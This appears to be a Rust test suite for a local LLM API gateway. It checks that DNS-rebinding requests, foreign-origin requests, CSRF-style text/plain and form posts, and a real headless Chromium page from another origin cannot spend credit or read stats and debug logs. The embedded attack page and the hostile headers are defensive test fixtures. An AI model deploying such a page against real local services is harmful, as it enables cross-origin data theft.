//! The gateway against web pages: a real gateway with a real proxy and worker (fake engine),
//! attacked over plain HTTP with the headers a browser or a DNS-rebinding page sends, and by
//! a real headless Chromium opening a page from another origin that tries to spend the
//! channel and read the answers, the stats and the debug log. A page from an origin in
//! `allowed_origins` is the positive control: it can, so the attack test can fail.
#![allow(clippy::unwrap_used)] // test code: a failed unwrap is a failed test

use std::net::SocketAddr;
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use cocoon_client::{Client, ClientConfig, ClientHandle, Timings};
use cocoon_testkit::client::gateway_config;
use cocoon_testkit::fixtures::root_with_proxy_image;
use cocoon_testkit::http::{RawResponse, raw_request};
use cocoon_testkit::prelude::*;
use cocoon_testkit::worker::network;
use cocoon_ton::root::RootConfig;
use serde_json::{Value, json};

fn test_root() -> RootConfig {
    root_with_proxy_image(1, true)
}

fn config(proxy: String, allowed_origins: Vec<String>) -> ClientConfig {
    let mut cfg = gateway_config(vec![proxy], test_root());
    cfg.allowed_origins = allowed_origins;
    cfg.allowed_hosts = vec!["cocoon.lan".into()];
    cfg.connections = 1;
    let mut timings = Timings {
        connect_timeout: Duration::from_secs(5),
        ..Timings::default()
    };
    timings.backoff.base = Duration::from_millis(50);
    cfg.timings = timings;
    cfg
}

/// A proxy, one worker, our contract funded, and the gateway with `allowed_origins`.
async fn gateway(allowed_origins: Vec<String>) -> (Net, TestWorker, ClientHandle) {
    let (net, w) = network(test_root()).await;
    let c = Client::start(config(net.proxy.client_addr().to_string(), allowed_origins))
        .await
        .unwrap();
    assert!(c.wait_ready(LIMIT).await, "{:?}", c.proxies());
    (net, w, c)
}

fn chat_body() -> String {
    json!({
        "model": "Smol",
        "messages": [{"role": "user", "content": "json"}],
        "max_tokens": 20,
    })
    .to_string()
}

/// One HTTP/1.1 request over raw TCP, so Host and every other header are what we say.
async fn send(
    addr: SocketAddr,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> RawResponse {
    let mut head = format!("{method} {path} HTTP/1.1");
    for (n, v) in headers {
        head.push_str(&format!("\r\n{n}: {v}"));
    }
    raw_request(addr, &head, body).await
}

/// Every route the gateway serves, with a request that route accepts.
fn routes() -> Vec<(&'static str, &'static str)> {
    vec![
        ("POST", "/v1/chat/completions"),
        ("POST", "/v1/completions"),
        ("GET", "/v1/models"),
        ("GET", "/v1/models/Smol"),
        ("GET", "/stats"),
        ("GET", "/jsonstats"),
        ("GET", "/metrics"),
        ("GET", "/request/debuglogentry?request_guid=g1"),
        ("POST", "/control/topup"),
        ("GET", "/no-such-page"),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_api_refuses_foreign_hosts_origins_and_bodies_that_are_not_json() {
    let (_net, w, c) = gateway(vec!["http://localhost:3000".into()]).await;
    let a = c.api_addr().unwrap();
    let port = a.port();
    let local = format!("127.0.0.1:{port}");
    let owner = addr(0x42).to_string();
    let json_ct = ("Content-Type", "application/json");

    // An honest request with a guid (curl, an SDK: no Origin), so the debug log and the
    // stats hold something worth stealing.
    let r = send(
        a,
        "POST",
        "/v1/chat/completions",
        &[("Host", &local), json_ct],
        &json!({"model": "Smol", "messages": [{"role": "user", "content": "json"}],
                "max_tokens": 20, "request_guid": "g1"})
        .to_string(),
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.body);
    assert!(r.cors().is_empty(), "no Origin, no CORS: {:?}", r.headers);
    assert_eq!(r.header("vary"), Some("Origin"));
    let billed = w.engine.requests();
    assert_eq!(billed, 1);

    // Loopback names and the allowed host, any port: served.
    for host in [
        local.clone(),
        format!("localhost:{port}"),
        format!("[::1]:{port}"),
        "cocoon.lan".into(),
    ] {
        let r = send(a, "GET", "/jsonstats", &[("Host", &host)], "").await;
        assert_eq!(r.status, 200, "{host}: {}", r.body);
        assert_eq!(r.json()["owner_address"], owner.as_str());
    }

    // DNS rebinding: a page from `rebind.example` that now resolves to 127.0.0.1 is
    // same-origin to the browser; its Host gives it away. Every route is refused.
    let host = format!("rebind.example:{port}");
    let origin = format!("http://{host}");
    for (m, path) in routes() {
        let r = send(
            a,
            m,
            path,
            &[("Host", &host), ("Origin", &origin), json_ct],
            &if m == "POST" {
                chat_body()
            } else {
                String::new()
            },
        )
        .await;
        assert_eq!(r.status, 403, "{m} {path}: {}", r.body);
        assert_eq!(r.json()["error"]["code"], "foreign_host", "{m} {path}");
        assert!(r.cors().is_empty());
        assert!(!r.body.contains(&owner));
    }
    let r = send(a, "GET", "/jsonstats", &[], "").await;
    assert_eq!(r.status, 400, "no Host: {}", r.body);

    // A foreign origin on a loopback Host (a page on another site or port): every route
    // refused, preflights get no grant.
    for origin in ["https://evil.example", "http://127.0.0.1:1", "null"] {
        for (m, path) in routes() {
            let r = send(
                a,
                m,
                path,
                &[("Host", &local), ("Origin", origin), json_ct],
                &if m == "POST" {
                    chat_body()
                } else {
                    String::new()
                },
            )
            .await;
            assert_eq!(r.status, 403, "{origin} {m} {path}: {}", r.body);
            assert_eq!(r.json()["error"]["code"], "foreign_origin");
            assert_eq!(r.json()["error"]["type"], "permission_error");
            assert!(r.cors().is_empty(), "{:?}", r.headers);
            let r = send(
                a,
                "OPTIONS",
                path,
                &[
                    ("Host", &local),
                    ("Origin", origin),
                    ("Access-Control-Request-Method", m),
                    (
                        "Access-Control-Request-Headers",
                        "content-type, authorization",
                    ),
                ],
                "",
            )
            .await;
            assert_eq!(r.status, 403, "preflight {origin} {path}");
            assert!(r.cors().is_empty(), "{:?}", r.headers);
        }
    }

    // text/plain (what a page sends without a preflight) and forms: 415, even without an
    // Origin, and nothing reaches the proxy.
    for ct in [
        "text/plain;charset=UTF-8",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
    ] {
        for path in ["/v1/chat/completions", "/v1/completions", "/control/topup"] {
            let r = send(
                a,
                "POST",
                path,
                &[("Host", &local), ("Content-Type", ct)],
                &chat_body(),
            )
            .await;
            assert_eq!(r.status, 415, "{ct} {path}: {}", r.body);
            assert_eq!(r.json()["error"]["code"], "unsupported_media_type");
            assert_eq!(r.json()["error"]["type"], "invalid_request_error");
        }
    }
    let r = send(
        a,
        "POST",
        "/v1/chat/completions",
        &[("Host", &local)],
        &chat_body(),
    )
    .await;
    assert_eq!(r.status, 415, "a body without a type: {}", r.body);

    // Nothing of the above was billed or reached the proxy.
    assert_eq!(w.engine.requests(), billed);
    assert_eq!(c.stats().stats.received, 1);

    // The allowed origin: preflight granted with its own origin (never `*`), the answer
    // readable with the cost headers exposed.
    let allowed = "http://localhost:3000";
    let r = send(
        a,
        "OPTIONS",
        "/v1/chat/completions",
        &[
            ("Host", &local),
            ("Origin", allowed),
            ("Access-Control-Request-Method", "POST"),
            (
                "Access-Control-Request-Headers",
                "authorization, content-type, x-stainless-os",
            ),
        ],
        "",
    )
    .await;
    assert_eq!(r.status, 204);
    assert_eq!(r.header("access-control-allow-origin"), Some(allowed));
    assert_eq!(
        r.header("access-control-allow-headers"),
        Some("authorization, content-type, x-stainless-os")
    );
    assert!(
        r.header("access-control-allow-methods")
            .unwrap()
            .contains("POST")
    );
    let r = send(
        a,
        "POST",
        "/v1/chat/completions",
        &[("Host", &local), ("Origin", allowed), json_ct],
        &chat_body(),
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(r.header("access-control-allow-origin"), Some(allowed));
    assert!(
        r.header("access-control-expose-headers")
            .unwrap()
            .contains("x-cocoon-cost-nanoton")
    );
    assert_eq!(r.header("vary"), Some("Origin"));
    assert_eq!(r.json()["choices"][0]["message"]["content"], "Hi");
    // A page served by the gateway itself (its own origin) needs no grant.
    let r = send(
        a,
        "GET",
        "/jsonstats",
        &[("Host", &local), ("Origin", &format!("http://{local}"))],
        "",
    )
    .await;
    assert_eq!(r.status, 200);
    assert!(r.cors().is_empty());
    assert_eq!(w.engine.requests(), billed + 1);
    c.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn binding_beyond_loopback_without_api_keys_or_a_bad_allowlist_refuses_to_start() {
    let net = start_proxy(test_root()).await;
    let proxy = net.proxy.client_addr().to_string();
    for listen in ["0.0.0.0:0", "[::]:0"] {
        let mut cfg = config(proxy.clone(), vec![]);
        cfg.api_listen = Some(listen.parse().unwrap());
        let e = Client::start(cfg).await.err().expect("refused").to_string();
        assert!(e.contains("beyond this machine, without API keys"), "{e}");
    }
    for bad in ["*", "null", "localhost:3000"] {
        let e = Client::start(config(proxy.clone(), vec![bad.into()]))
            .await
            .err()
            .expect("refused")
            .to_string();
        assert!(e.starts_with("browser allowlist: "), "{e}");
    }
    // With a keys file the same address is allowed (port 0 on every interface).
    let dir = tempfile::tempdir().unwrap();
    let keys = dir.path().join("keys");
    std::fs::write(
        &keys,
        format!("{} - app\n", cocoon_client::keys::key_hash("sk-1")),
    )
    .unwrap();
    let mut cfg = config(proxy, vec![]);
    cfg.api_listen = Some("0.0.0.0:0".parse().unwrap());
    cfg.api_keys_file = Some(keys);
    let c = Client::start(cfg).await.unwrap();
    c.shutdown().await;
}

// ---------------------------------------------------------------- a real browser

/// Chromium's binary: `COCOON_CHROMIUM`, else `chromium` or `chromium-browser` on PATH.
/// Absent: the test is skipped, except under `scripts/test` (`COCOON_REQUIRE_PREREQS`) or in
/// CI (`CI`), where `scripts/setup --browser` installs it and a missing browser is a failure.
fn chromium() -> Option<PathBuf> {
    let found = std::env::var_os("COCOON_CHROMIUM")
        .map(PathBuf::from)
        .or_else(|| {
            let path = std::env::var_os("PATH")?;
            std::env::split_paths(&path)
                .flat_map(|d| [d.join("chromium"), d.join("chromium-browser")])
                .find(|p| p.is_file())
        });
    if found.is_none() {
        assert!(
            !cocoon_testkit::fixtures::prereqs_required(),
            "chromium must be installed under scripts/test (it runs scripts/setup --browser)"
        );
        eprintln!(
            "skipped: chromium is not installed (apt-get install chromium, or scripts/setup \
             --browser); the browser test did not run"
        );
    }
    found
}

/// The page every origin serves: it tries to spend the channel and read what it can, then
/// posts what it got back to the server it came from.
fn page(api: &str) -> String {
    format!(
        r#"<!doctype html><html><head><title>running</title></head><body><script>
const api = "{api}";
const chat = JSON.stringify({{model: "Smol", messages: [{{role: "user", content: "json"}}], max_tokens: 20}});
async function attempt(url, opts) {{
  try {{
    const r = await fetch(url, opts);
    let body;
    try {{ body = (await r.text()).slice(0, 4000); }} catch (e) {{ body = "unreadable: " + e; }}
    return {{status: r.status, type: r.type, body}};
  }} catch (e) {{
    return {{error: String(e)}};
  }}
}}
(async () => {{
  const out = {{}};
  // JSON: the browser asks first (preflight).
  out.json = await attempt(api + "/v1/chat/completions",
    {{method: "POST", headers: {{"Content-Type": "application/json"}}, body: chat}});
  // text/plain: a "simple" request, sent without asking; readable only with a grant.
  out.text = await attempt(api + "/v1/chat/completions",
    {{method: "POST", headers: {{"Content-Type": "text/plain"}}, body: chat}});
  // no-cors: sent without asking, never readable; it must still not be billed.
  out.text_no_cors = await attempt(api + "/v1/chat/completions",
    {{method: "POST", mode: "no-cors", headers: {{"Content-Type": "text/plain"}}, body: chat}});
  out.form_no_cors = await attempt(api + "/v1/completions",
    {{method: "POST", mode: "no-cors", body: new URLSearchParams({{prompt: "json", model: "Smol"}})}});
  out.stats = await attempt(api + "/jsonstats", {{}});
  out.stats_html = await attempt(api + "/stats", {{}});
  out.debug = await attempt(api + "/request/debuglogentry?request_guid=g1", {{}});
  out.models = await attempt(api + "/v1/models", {{}});
  await fetch("/report", {{method: "POST", body: JSON.stringify(out)}});
  document.title = "reported";
}})();
</script></body></html>"#
    )
}

/// A web server on `l` (its own origin: another 127.0.0.1 port) serving [`page`] at `/` and
/// keeping what the page reports.
fn origin_server(l: tokio::net::TcpListener, api: &str) -> Arc<Mutex<Option<Value>>> {
    use axum::routing::{get, post};
    let report = Arc::new(Mutex::new(None));
    let html = page(api);
    let r = report.clone();
    let app = axum::Router::new()
        .route("/", get(move || async move { axum::response::Html(html) }))
        .route(
            "/report",
            post(move |body: String| async move {
                *r.lock().unwrap() = serde_json::from_str(&body).ok();
                "ok"
            }),
        );
    tokio::spawn(async move { axum::serve(l, app).await.unwrap() });
    report
}

/// A child process killed when dropped (a failing test leaves no browser behind).
struct Killed(std::process::Child);

impl Drop for Killed {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Opens `url` in a fresh headless Chromium and waits for the page's report.
async fn visit(chromium: &PathBuf, url: &str, report: &Arc<Mutex<Option<Value>>>) -> Value {
    let profile = tempfile::tempdir().unwrap();
    let mut child = Killed(
        Command::new(chromium)
            .args([
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-quic",
                "--no-first-run",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
                "--virtual-time-budget=30000",
                "--dump-dom",
            ])
            .arg(format!("--user-data-dir={}", profile.path().display()))
            .arg(url)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let end = Instant::now() + Duration::from_secs(90);
    loop {
        if let Some(v) = report.lock().unwrap().take() {
            return v;
        }
        if let Ok(Some(status)) = child.0.try_wait() {
            // Exited: the report may still be on its way for a moment.
            tokio::time::sleep(Duration::from_millis(500)).await;
            if let Some(v) = report.lock().unwrap().take() {
                return v;
            }
            panic!("chromium exited ({status}) without a report from {url}");
        }
        assert!(Instant::now() < end, "no report from {url} within 90 s");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_web_page_in_chromium_can_neither_spend_the_channel_nor_read_anything() {
    let Some(chromium) = chromium() else {
        return;
    };
    // The friendly origin's listener is bound first (it serves later), so the gateway can
    // allow it from the start.
    let friend = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let friend_origin = format!("http://{}", friend.local_addr().unwrap());
    let (_net, w, c) = gateway(vec![friend_origin.clone()]).await;
    let api = format!("http://{}", c.api_addr().unwrap());
    let owner = addr(0x42).to_string();

    // An honest request (no Origin) puts an entry in the debug log for the page to steal.
    let r = reqwest::Client::new()
        .post(format!("{api}/v1/chat/completions"))
        .json(
            &json!({"model": "Smol", "messages": [{"role": "user", "content": "json"}],
                      "max_tokens": 20, "request_guid": "g1"}),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let billed = w.engine.requests();
    let spent = c.stats().stats.spent_nanoton;

    // The attacker: a page on another origin (another port of 127.0.0.1).
    let evil = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let evil_url = format!("http://{}/", evil.local_addr().unwrap());
    let evil_report = origin_server(evil, &api);
    let got = visit(&chromium, &evil_url, &evil_report).await;
    assert_eq!(got.as_object().unwrap().len(), 8, "{got}");
    // Nothing was billed: no request of the page's reached the gateway's request path, the
    // proxy or the engine.
    assert_eq!(
        w.engine.requests() - billed,
        0,
        "the page's requests reached the engine: {got}"
    );
    assert_eq!(c.stats().stats.spent_nanoton, spent);
    assert_eq!(c.stats().stats.received, 1);
    // And nothing was readable.
    for (what, v) in got.as_object().unwrap() {
        // Either the fetch failed (no CORS grant) or the answer is opaque (no-cors): status
        // 0, nothing in it.
        let readable = v.get("error").is_none() && v["status"] != 0;
        assert!(!readable, "the attacker's page read {what}: {v}");
        assert!(v.get("body").is_none_or(|b| b == ""), "{what}: {v}");
    }
    let text = got.to_string();
    assert!(!text.contains("Hi") && !text.contains(&owner), "{text}");

    // The positive control: the same page from the allowed origin reads a completion and
    // the stats, so the browser could reach the gateway and the test above can fail.
    let report = origin_server(friend, &api);
    let got = visit(&chromium, &format!("{friend_origin}/"), &report).await;
    assert_eq!(got["json"]["status"], 200, "{got}");
    let answer: Value = serde_json::from_str(got["json"]["body"].as_str().unwrap()).unwrap();
    assert_eq!(answer["choices"][0]["message"]["content"], "Hi", "{got}");
    assert_eq!(got["stats"]["status"], 200, "{got}");
    assert!(got["stats"]["body"].as_str().unwrap().contains(&owner));
    // Its text/plain and form posts are still refused (415, unreadable without a grant).
    assert!(got["text"].get("error").is_some(), "{got}");
    assert_eq!(
        w.engine.requests(),
        billed + 1,
        "only the JSON request was served"
    );
    c.shutdown().await;
}
